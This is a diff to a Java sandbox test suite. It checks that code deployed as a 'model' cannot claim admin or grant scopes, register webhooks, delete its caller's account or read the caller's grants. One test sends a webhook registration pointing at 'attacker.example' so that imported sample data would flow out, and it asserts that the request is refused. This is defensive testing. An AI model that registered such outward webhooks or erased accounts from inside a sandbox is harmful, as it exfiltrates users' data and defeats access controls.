@@ -284,6 +284,31 @@ class ModelSandboxTest {
         }
     }
 
+    /** grants, admin and models are never a model's to declare; an application's webhooks are never reached from a box. */
+    @Test
+    void aModelNeverDeclaresGrantsAndNeverRegistersWebhooks() throws Exception {
+        try (TestServer s = TestServer.builder().setting("models.pool-size", "0").start()) {
+            Identity.Client app = Identity.confidentialClient(s);
+            try (OAuth2 oauth2 = OAuth2.builder(app.id(), app.secret()).endpoint(s.url()).build(); Api owner = oauth2.getCredentialsToken().api()) {
+                for (String scope : List.of("grants:write", "grants", "admin", "models")) {
+                    ApiException refused = org.junit.jupiter.api.Assertions.assertThrows(ApiException.class, () -> owner.deployModel("greedy",
+                            zip("greedy", "index.py", PROBE), ModelConfig.builder().scopes(scope).build(), WAIT));
+                    assertEquals(41001, refused.code(), scope);
+                    assertTrue(refused.dataModel().toString().contains("scopes"), refused.dataModel().toString());
+                }
+                AccessToken own = oauth2.getCredentialsToken();
+                Caller application = Caller.clientToken(app.id(), Set.copyOf(own.scopes()));
+                String minted = Identity.platform(s).authenticators().invocations().mint(application, own.accessToken(),
+                        Set.of("samples:write", "streams:write"), Duration.ofSeconds(30));
+                Path channel = Identity.platform(s).config().modelsRoot().resolve(".channel/api.sock");
+                assertEquals(401, channelCode(channel, minted, "POST", "/webhooks", "url=https%3A%2F%2Fattacker.example%2Fhook&events=sample.data_imported"),
+                        "no endpoint registered from inside a model");
+                assertEquals(401, channelCode(channel, minted, "GET", "/webhooks", null));
+                assertEquals(0, channelCode(channel, minted, "GET", "/samples", null), "its declared reads still work");
+            }
+        }
+    }
+
     @ParameterizedTest
     @MethodSource("io.omix.server.testing.TestDatabases#kinds")
     void theInvocationTokenActsForTheCallerWithinTheDeclaredScopesAndOnlyWhileItRuns(String kind) throws Exception {
@@ -334,6 +359,12 @@ class ModelSandboxTest {
                 ApiException outside = org.junit.jupiter.api.Assertions.assertThrows(ApiException.class,
                         () -> Api.builder(live).endpoint(s.url()).build().getUser());
                 assertEquals(403, outside.code(), "and nowhere else");
+                // A version deployed declaring grants before that was refused: its token still never has them.
+                Caller holdsGrants = Caller.userToken(app.id(), person.userId(), Set.of("profile", "grants"));
+                String grants = Identity.platform(s).authenticators().invocations().mint(holdsGrants, userToken.accessToken(),
+                        Set.of("grants:write", "grants"), Duration.ofSeconds(30));
+                assertEquals(401, channelCode(channel, grants, "DELETE", "/user", null), "a model never erases its caller's account");
+                assertEquals(401, channelCode(channel, grants, "GET", "/user/grants", null), "nor reads their grants");
                 tokens.revokeFamily(tokens.find(userToken.accessToken()).orElseThrow().familyId());
                 assertEquals(403, channelCode(channel, live, "/profile"), "it dies with the grant behind it");
             }
@@ -415,8 +446,16 @@ class ModelSandboxTest {
 
     /** The envelope's code (or the HTTP status when there is none) of a GET through the channel's socket. */
     static int channelCode(Path socket, String token, String path) throws IOException {
+        return channelCode(socket, token, "GET", path, null);
+    }
+
+    /** A request through a box's channel, with a form body when {@code form} is given. */
+    static int channelCode(Path socket, String token, String method, String path, String form) throws IOException {
         try (SocketChannel ch = SocketChannel.open(UnixDomainSocketAddress.of(socket))) {
-            String request = "GET " + path + " HTTP/1.1\r\nHost: box\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n\r\n";
+            String body = form == null ? "" : form;
+            String request = method + " " + path + " HTTP/1.1\r\nHost: box\r\nAuthorization: Bearer " + token + "\r\nConnection: close\r\n"
+                    + (form == null ? "" : "Content-Type: application/x-www-form-urlencoded\r\n")
+                    + "Content-Length: " + body.getBytes(StandardCharsets.UTF_8).length + "\r\n\r\n" + body;
             ch.write(ByteBuffer.wrap(request.getBytes(StandardCharsets.US_ASCII)));
             List<Byte> all = new ArrayList<>();
             ByteBuffer buffer = ByteBuffer.allocate(8192);
